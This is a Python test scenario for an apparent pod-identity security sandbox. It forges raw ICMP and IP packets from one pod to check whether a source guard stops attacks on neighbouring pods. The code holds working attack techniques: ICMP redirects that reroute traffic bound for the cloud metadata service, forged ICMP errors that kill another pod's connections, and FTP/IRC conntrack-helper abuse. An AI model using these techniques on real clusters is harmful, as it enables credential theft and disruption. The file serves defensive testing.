"""Scenario: what a pod on a routed link says of ways and of connections that are not its own.

It says it by ICMP, and on connections of its own by the words for which a node's conntrack helpers
look. There is no bridge, whose filter would bind the pod to its own address, and every setting by
which a node or a pod listens to such words is on.
"""

from __future__ import annotations

import json
import socket
import struct
from typing import Any

from podidentity_sandbox.demo.frames import checksum
from tests.kernel.topology import ANSWERED, IMDS, PODS, Agent, Client, Imds, ask, command, inside

_NODE, _NEXT_HOP, _OTHER_HOP = "10.240.0.4", "10.240.0.1", "10.240.0.99"
_GATEWAY_OF_PODS = "169.254.1.1"
_LISTENER = ("169.254.25.79", 2579)
_ECHO_REPLY, _UNREACHABLE, _QUENCH, _REDIRECT, _EXCEEDED, _WRONG = 0, 3, 4, 5, 11, 12
_FRAGMENTATION_NEEDED = 4
_ERRORS = (
    *((_UNREACHABLE, code) for code in range(16)),
    (_QUENCH, 0),
    *((_EXCEEDED, code) for code in (0, 1)),
    (_WRONG, 0),
)
_BELIEVING = """
for each in all {links}; do
  echo 1 >/proc/sys/net/ipv4/conf/$each/accept_redirects
  echo 0 >/proc/sys/net/ipv4/conf/$each/rp_filter
done
"""


async def redirected_ways(*, guarded: bool) -> dict[str, Any]:
    """Pod p1 tells the node and p2, as the gateway of each, that IMDS is behind another hop."""
    await _believe()
    neighbour = PODS["p2"]
    # A hop is believed that is known already; p1 could have had it asked for.
    for netns, hop in {"": _OTHER_HOP, "p2": PODS["p1"]}.items():
        await command("ip", "neigh", "replace", hop, *_KNOWN, "dev", "eth0", netns=netns)
    async with Agent.running(source_guard=guarded) as agent:
        if guarded:
            await agent.tell("sources")
        _send("p1", _GATEWAY_OF_PODS, neighbour, _redirect(neighbour, PODS["p1"]))
        _send("p1", _NEXT_HOP, _NODE, _redirect(_NODE, _OTHER_HOP))
        await ask("p1", "/until-they-have-passed")
        return {
            "node": await _hop(""),
            "p2": await _hop("p2"),
            "served": (await ask("p2", "/served", seconds=ANSWERED if guarded else 0.5))["who"],
        }


async def errors() -> dict[str, Any]:
    """Pod p1 says of a kept connection of p2, and of the agent's end of it, that it has failed."""
    await _believe()
    async with Agent.running(source_guard=True) as agent:
        await agent.tell("sources")
        kept = Client("p2")
        found: dict[str, Any] = {"before": (await kept.get("/before"))["verdict"]}
        client, before = (PODS["p2"], kept.port), await _received("")
        for kind, code in _ERRORS:
            for end in (IMDS, _LISTENER):
                of_answers, of_requests = _quoted(end, client), _quoted(client, end)
                for to in (IMDS[0], _NODE):
                    _send("p1", PODS["p1"], to, _icmp(kind, code, _SMALL, of_answers))
                _send("p1", PODS["p1"], client[0], _icmp(kind, code, _SMALL, of_requests))
        # What TCP need not have sent: the kernel takes 552 bytes for the way to p2.
        small = _icmp(_UNREACHABLE, _FRAGMENTATION_NEEDED, _SMALL, _echo_reply(_NODE, client[0]))
        _send("p1", PODS["p1"], _NODE, small)
        found["arrived"] = await _received("") - before
        answers = [await kept.get("/kept"), await ask("p2", "/new"), await ask("p1", "/own")]
        found["after"] = [(each["peer"], each["verdict"]) for each in answers]
        kept.close()
    return found


_KNOWN = ("lladdr", "02:00:00:00:00:99", "nud", "permanent")
_SMALL = struct.pack("!HH", 0, 552)


async def _believe() -> None:
    await command("sh", "-ec", _BELIEVING.format(links="eth0 v-p1 v-p2"))
    for pod in ("p1", "p2"):
        await command("sh", "-ec", _BELIEVING.format(links="eth0"), netns=pod)


def _redirect(origin: str, hop: str) -> bytes:
    """Return the word that the way from `origin` to IMDS is by `hop`."""
    return _icmp(_REDIRECT, 1, socket.inet_aton(hop), _echo_reply(origin, IMDS[0]))


def _echo_reply(origin: str, to: str) -> bytes:
    """Return an answer to a ping: of what it quotes in errors this is what the kernel never checks.

    `icmp_err` in net/ipv4/icmp.c.
    """
    return _packet(origin, to, socket.IPPROTO_ICMP, _icmp(_ECHO_REPLY, 0, bytes(4), b""))


def _quoted(origin: tuple[str, int], to: tuple[str, int]) -> bytes:
    segment = struct.pack("!HHIIBBHHH", origin[1], to[1], 1, 1, 0x50, 0x10, 1000, 0, 0)
    return _packet(origin[0], to[0], socket.IPPROTO_TCP, segment)


def _icmp(kind: int, code: int, rest: bytes, quoted: bytes) -> bytes:
    message = struct.pack("!BBH", kind, code, 0) + rest + quoted
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def _packet(origin: str, to: str, protocol: int, body: bytes) -> bytes:
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0)
    head += socket.inet_aton(origin) + socket.inet_aton(to)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def _send(pod: str, origin: str, to: str, message: bytes) -> None:
    """Send ICMP from any address; it is handed on within the call."""
    raw = inside(pod, lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
    with raw:
        raw.sendto(_packet(origin, to, socket.IPPROTO_ICMP, message), (to, 0))


async def _hop(netns: str) -> str:
    """Return the next hop towards IMDS."""
    (route,) = json.loads(await command("ip", "-j", "route", "get", IMDS[0], netns=netns))
    return str(route["gateway"])


async def _received(netns: str) -> int:
    """Return how many messages of ICMP a network has received."""
    said = await command("sh", "-c", "grep ^Icmp: /proc/net/snmp", netns=netns)
    names, numbers = (line.split() for line in said.splitlines())
    return int(dict(zip(names, numbers, strict=True))["InMsgs"])


_HELPERS = """
table ip helpers {
  ct helper ftp { type "ftp" protocol tcp; }
  ct helper irc { type "irc" protocol tcp; }
  chain looked_into {
    type filter hook prerouting priority mangle;
    tcp dport 21 ct helper set "ftp"
    tcp dport 6667 ct helper set "irc"
    ct status expected tcp flags syn counter
  }
}
"""
_FTP, _IRC = 21, 6667


async def expected() -> dict[str, Any]:
    """The node's conntrack has helpers, and p1 and its accomplice p3 say what they look for.

    A helper expects a connection to the address and port that are named: it may be led elsewhere.
    """
    try:
        await command("nft", _HELPERS)
    except RuntimeError as error:
        return {"missing": str(error)}
    imds = Imds()
    found: dict[str, Any] = {}
    async with imds.serving(), Agent.running(source_guard=True) as agent:
        await agent.tell("sources")
        for what, named in {"its own": (PODS["p3"], 7777), "IMDS": IMDS, "ours": _LISTENER}.items():
            _say(_FTP, named, by_server=True)
            before = await _expected()
            with inside("p1", socket.socket) as client:
                client.setblocking(False)
                client.connect_ex(named)
            await ask("p1", "/until-it-has-passed")
            found[f"FTP, {what}"] = await _expected() - before
        for what, named in {"its own": (PODS["p1"], 8888), "IMDS": IMDS, "ours": _LISTENER}.items():
            _say(_IRC, named, by_server=False)
            before = await _expected()
            for pod in ("p3", "p2"):
                with inside(pod, socket.socket) as client:
                    client.setblocking(False)
                    client.connect_ex(named)
            await ask("p1", "/until-it-has-passed")
            found[f"IRC, {what}"] = await _expected() - before
        answers = [await ask(pod, f"/{pod}") for pod in ("p1", "p2", "p3")]
        found["after"] = [(each["peer"], each["verdict"]) for each in answers]
    return found | {"leaked": len(imds.seen)}


def _say(port: int, named: tuple[str, int], *, by_server: bool) -> None:
    """Say on a connection from p1 to p3 that there will be one to an address and port."""
    number = int.from_bytes(socket.inet_aton(named[0]))
    numbers = ",".join([*named[0].split("."), str(named[1] >> 8), str(named[1] & 255)])
    words = {
        _FTP: f"227 Entering Passive Mode ({numbers})\r\n",
        _IRC: f"PRIVMSG p3 :\1DCC SEND file {number} {named[1]} 1\1\r\n",
    }[port]
    with (
        inside("p3", lambda: socket.create_server((PODS["p3"], port))) as server,
        inside("p1", socket.socket) as client,
    ):
        client.connect((PODS["p3"], port))
        accepted, _ = server.accept()
        with accepted:
            sender, receiver = (accepted, client) if by_server else (client, accepted)
            for each in ("220 the first line\r\n", words):  # FTP's helper looks behind a line
                sender.sendall(each.encode())
                assert receiver.recv(200) == each.encode()


async def _expected() -> int:
    """Return how many connections came that a helper had expected."""
    listed = json.loads(await command("nft", "-j", "list", "table", "ip", "helpers"))["nftables"]
    *_, last = (each["rule"]["expr"] for each in listed if "rule" in each)
    (counter,) = (each["counter"] for each in last if "counter" in each)
    return int(counter["packets"])
